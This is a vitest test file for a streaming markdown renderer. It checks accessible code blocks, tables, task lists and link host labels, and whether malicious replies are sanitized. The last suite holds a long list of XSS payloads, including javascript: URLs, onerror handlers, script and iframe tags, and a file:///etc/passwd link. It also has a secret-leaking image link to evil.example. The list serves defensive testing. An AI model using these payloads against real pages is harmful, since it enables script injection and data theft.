import { beforeEach, describe, expect, test, vi } from 'vitest'
import { createMarkdownRenderer } from './renderer.ts'
import { drawWhole, labels } from './reply.fixture.ts'

// A clock that stands still, so that no piece waits for another.
beforeEach(() => {
  vi.useFakeTimers()
  return () => void vi.useRealTimers()
})

function only(root: HTMLElement, selector: string): Element {
  const found = root.querySelectorAll(selector)
  if (found.length !== 1 || !found[0]) throw new Error(`${found.length} elements match ${selector}`)
  return found[0]
}

describe('a code block', () => {
  test('is drawn with its language, a button without words, and its source', () => {
    const root = drawWhole('```ts title="x"\nconst a = "<b>"\n```')
    const figure = only(root, 'figure.code')
    expect(figure.getAttribute('dir')).toBe('ltr')
    expect(only(root, 'figcaption').getAttribute('data-language')).toBe('TypeScript')
    expect(only(root, 'button[data-copy][type="button"]').getAttribute('aria-label')).toBe('Copy code')
    expect(only(root, 'pre[tabindex="0"][role="region"]').getAttribute('aria-label')).toBe('TypeScript')
    expect(figure.textContent).toBe('const a = "<b>"\n')
  })

  test.each([
    ['py', 'Python'],
    ['C++', 'C++'],
    ['Brainfuck', 'Brainfuck'],
    ['constructor', 'constructor'],
  ])('that says "%s" is called %s', (word, name) => {
    expect(only(drawWhole('```' + word + '\n```'), 'figcaption').getAttribute('data-language')).toBe(name)
  })

  test('without a language is called code, and its caption says nothing', () => {
    for (const text of ['```\na\n```', '    a']) {
      expect(only(drawWhole(text), 'pre').getAttribute('aria-label')).toBe('Code')
      expect(only(drawWhole(text), 'figcaption').hasAttribute('data-language')).toBe(false)
    }
  })
})

describe('a table', () => {
  const root = drawWhole('| Weather | Air | Sky |\n|---|--:|:-:|\n| Still<br>humid | 16 | *grey* |\n')

  test('is a region that can be scrolled with the keyboard and is named by its columns', () => {
    const region = only(root, 'div.table > [role="region"][tabindex="0"]')
    expect(region.getAttribute('aria-label')).toBe('Table: Weather, Air, Sky')
    expect([...root.querySelectorAll('th')].every((cell) => cell.scope === 'col')).toBe(true)
  })

  test('can be copied, by a button without words', () => {
    expect(only(root, '.table > button[data-copy]').getAttribute('aria-label')).toBe('Copy table')
    expect(root.textContent).toBe('WeatherAirSkyStill\nhumid16grey')
  })

  test('is aligned by classes, for the page allows no style attribute', () => {
    expect([...root.querySelectorAll('th, td')].map((cell) => cell.className)).toEqual([
      '',
      'num',
      'center',
      '',
      'num',
      'center',
    ])
    expect(root.querySelector('[style]')).toBeNull()
  })

  test('breaks lines only in cells with many words, and where the reply says <br>', () => {
    const long = drawWhole('| a | b |\n|---|---|\n| short | ' + 'long words '.repeat(5) + '|\n')
    expect([...long.querySelectorAll('td')].map((cell) => cell.className)).toEqual(['', 'wrap'])
    expect(only(root, 'br').parentElement?.textContent).toBe('Still\nhumid')
  })
})

describe('a list of tasks', () => {
  test('has a picture with a name in the place of each box', () => {
    const root = drawWhole('- [x] done\n- [ ] to *do*\n- [X] loud\n  - below\n')
    const boxes = [...root.querySelectorAll('ul > .task > [role="img"]')]
    expect(boxes.map((box) => box.getAttribute('aria-label'))).toEqual(['Done', 'To do', 'Done'])
    const states = [...root.querySelectorAll('.task')].map(({ classList }) => classList.contains('done'))
    expect(states).toEqual([true, false, true])
    expect(root.textContent).toBe('doneto doloudbelow')
    expect(only(root, '.task li').className).toBe('')
  })

  test.each(['- [ ] task\n- none', '- none\n- [ ] task', '1. none\n2. [x] task'])(
    'may hold an item that is none, and may have numbers: %j',
    (text) => {
      const root = drawWhole(text)
      expect([...root.querySelectorAll('li')].map((item) => item.textContent).toSorted()).toEqual([
        'none',
        'task',
      ])
      expect(only(root, '.task > div').textContent).toBe('task')
    },
  )

  test.each(['- \\[x] escaped', '- [x]tight', '[x] no list'])('is not made of %j', (text) => {
    const root = drawWhole(text)
    expect(root.querySelector('.task, [role="img"]')).toBeNull()
    expect(root.textContent).toContain('[x]')
  })
})

describe('a block', () => {
  test('takes its direction from its own words, each item of a list for itself, and code is always left to right', () => {
    const root = drawWhole('# a\n\nb `c`\n\n- d\n  - e\n\n1. f\n\n> g\n\n|h|\n|-|\n\n```\ni\n```\n\n- [ ] j')
    const directions = [...root.querySelectorAll('[dir]')].map(
      (block) => `${block.localName} ${block.getAttribute('dir')}`,
    )
    expect(directions).toEqual([
      'h1 auto',
      'p auto',
      'code ltr',
      'li auto',
      'li auto',
      'li auto',
      'blockquote auto',
      'div auto',
      'figure ltr',
      'li auto',
    ])
  })

  test('keeps what it does not know as text: HTML', () => {
    expect(drawWhole('<div onclick="x()">*a*</div>').textContent).toBe('<div onclick="x()">a</div>')
  })

  test('strikes out as deleted', () => {
    expect(only(drawWhole('~~gone~~'), 'del').textContent).toBe('gone')
    expect(drawWhole('a ~~~not~~~ and ~~~~not~~~~').innerHTML).toContain('>a ~~~not~~~ and ~~~~not~~~~<')
  })
})

describe('a link', () => {
  test('opens elsewhere, tells nobody where it was found, and keeps its title', () => {
    const link = only(drawWhole('[words](https://example.com/a?b=c "title")'), 'a')
    expect(Object.fromEntries([...link.attributes].map(({ name, value }) => [name, value]))).toEqual({
      href: 'https://example.com/a?b=c',
      target: '_blank',
      rel: 'noopener noreferrer nofollow',
      title: 'title',
      'data-host': 'example.com',
    })
  })

  test.each([
    ['[words](https://example.com)', 'example.com'],
    ['[bank.example](https://thief.example/)', 'thief.example'],
    ['[thief.example.bank.example](https://thief.example/)', 'thief.example'],
    ['<https://bank.example@thief.example/>', 'thief.example'],
    ['[https://bank.example](https://thief.example/)', 'thief.example'],
    ['https://аррӏе.example', 'xn--80ak6aa92e.example'],
    ['[write](mailto:me@example.com)', 'me@example.com'],
    ['[](https://example.com)', 'example.com'],
    ['[words](http://example.com:8080)', 'example.com:8080'],
  ])('%s names its host beside it', (text, host) => {
    expect(only(drawWhole(text), 'a').getAttribute('data-host')).toBe(host)
  })

  test.each([
    'https://example.com',
    '<https://example.com/a>',
    '[example.com](https://example.com/a)',
    '[Example.com/b](https://example.com/a)',
    '[*example.com*](https://example.com/a)',
    '<me@example.com>',
  ])('%s shows its host already', (text) => {
    expect(only(drawWhole(text), 'a').hasAttribute('data-host')).toBe(false)
  })

  test.each(['/path', '//example.com', '#part', 'page.html', 'tel:123', 'ftp://example.com', 'https://'])(
    'to %s is only its words, for it leads to no page',
    (address) => {
      const root = drawWhole(`[some *words*](${address})`)
      expect(only(root, 'span').textContent).toBe('some words')
      expect(root.querySelector('a')).toBeNull()
    },
  )

  test.each([
    ['See https://example.com/a_(b).', 'https://example.com/a_(b)'],
    ['(www.example.com/a?b=c).', 'http://www.example.com/a?b=c'],
    ['**www.example.com**', 'http://www.example.com/'],
    ['write to me.too@example.com.', 'mailto:me.too@example.com'],
    ['a_b+c@mail.example.museum!', 'mailto:a_b+c@mail.example.museum'],
  ])('is made of what is written out in %j', (text, address) => {
    expect(only(drawWhole(text), 'a').getAttribute('href')).toBe(address)
  })

  test.each([
    'example.com',
    'main.ts',
    '//example.com',
    'xwww.example.com',
    'www.',
    'me@host',
    'pkg@1.2.3',
    '@me',
    'a.b-c_d@a.b-',
  ])('is not made of %j', (text) => {
    expect(drawWhole(`say ${text} now`).querySelector('a')).toBeNull()
  })
})

describe('an image', () => {
  test('is a link with its description as the words', () => {
    const link = only(drawWhole('![a *b* c](https://example.com/d.png)'), 'a')
    expect([link.textContent, link.getAttribute('href')]).toEqual(['a b c', 'https://example.com/d.png'])
    expect(link.getAttribute('data-host')).toBe('example.com')
  })

  test('without a description is a link with its address as the words', () => {
    expect(only(drawWhole('![](https://example.com/d.png)'), 'a').textContent).toBe(
      'https://example.com/d.png',
    )
  })

  test('is its description where its address cannot be followed, and inside a link', () => {
    expect(drawWhole('![a](data:image/png;base64,AAAA)').innerHTML).toBe('<p dir="auto">a</p>')
    const link = only(drawWhole('[![a](https://b.example/c)](https://d.example)'), 'a')
    expect([link.innerHTML, link.getAttribute('href')]).toEqual(['a', 'https://d.example/'])
  })
})

describe('a reply that means harm', () => {
  const TAGS = new Set(
    'p h1 h2 h3 h4 h5 h6 blockquote ul ol li hr br strong em del span a div table thead tbody tr th td code figure figcaption pre button svg rect path sup'.split(
      ' ',
    ),
  )
  const ATTRIBUTES = new Set(
    'dir class start scope tabindex role aria-label aria-hidden title href target rel data-host data-language data-copy data-footnote data-label data-back data-tex type viewBox x y width height rx d'.split(
      ' ',
    ),
  )

  function findHarm(root: HTMLElement): string[] {
    const harm: string[] = []
    for (const element of root.querySelectorAll('*')) {
      if (!TAGS.has(element.localName)) harm.push(element.localName)
      for (const { name, value } of element.attributes) {
        if (!ATTRIBUTES.has(name)) harm.push(name)
        if (name === 'href' && !/^(https?:\/\/|mailto:)/.test(value)) harm.push(value)
      }
    }
    return harm
  }

  test.each([
    '[a](javascript:alert(1))',
    '[a](JaVaScRiPt:alert(1))',
    '[a](java&#115;cript:alert(1))',
    '[a](javascript&colon;alert(1))',
    '[a](&#x6A;&#x61;vascript:alert(1))',
    '[a](<java\tscript:alert(1)>)',
    '[a](\x01javascript:alert(1))',
    '[a](data:text/html,<script>alert(1)</script>)',
    '[a](data:image/png;base64,AAAA)',
    '[a](vbscript:msgbox(1))',
    '[a](file:///etc/passwd)',
    '[a](blob:https://evil.example/1)',
    '[a](view-source:https://evil.example)',
    '[a](//evil.example)',
    '[a](\\\\evil.example)',
    '[a](https:evil.example)',
    '[a](https://evil.example/"onmouseover="alert(1))',
    '[a](https://evil.example "x\\" onload=alert(1)")',
    '[a]: javascript:alert(1)\n\n[a]',
    '[a][b]\n\n[b]: data:text/html,x',
    '<javascript:alert(1)>',
    '<data:text/html,x>',
    'javascript://example.com/%0aalert(1)',
    'data://example.com vbscript://example.com',
    '![a](https://evil.example/?q=secret)',
    '![a](javascript:alert(1))',
    '![a](x "y" onerror=alert(1))',
    '[![a](https://evil.example/b)](javascript:alert(1))',
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<style>*{background:url(https://evil.example)}</style>',
    '<link rel=prefetch href=https://evil.example>',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<form action=https://evil.example><button>x</button></form>',
    '<base href=https://evil.example>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<br onclick=alert(1)><br/ onclick=alert(1)>',
    '<a href="https://evil.example" onclick=alert(1)>x</a>',
    '```"onload="alert(1)\nx\n```',
    '```<img/src=x>\n<script>\n```',
    '| <b onclick=x> |\n|:--:|\n| <script> |',
    '- [x] <img src=x onerror=alert(1)>',
    '9999. <object data=x>',
    '`<script>alert(1)</script>`',
    '$<img src=x onerror=alert(1)>$',
    '$$\\href{javascript:alert(1)}{x}$$',
    '[^"onclick="x()]\n\n[^"onclick="x()]: <img src=x onerror=alert(1)>',
    'www.evil.example/"onmouseover="alert(1)',
    'a@evil.example?body="onclick="x',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '<scr\0ipt>alert(1)</scr\0ipt>',
  ])('brings nothing but words and links into the page, wherever it is cut: %j', (text) => {
    for (let at = 0; at <= text.length; at++) {
      const root = document.createElement('div')
      const renderer = createMarkdownRenderer(root, labels)
      renderer.push(text.slice(0, at))
      expect(findHarm(root)).toEqual([])
      renderer.push(text.slice(at))
      expect(findHarm(root)).toEqual([])
      renderer.end()
      expect(findHarm(root)).toEqual([])
    }
  })
})
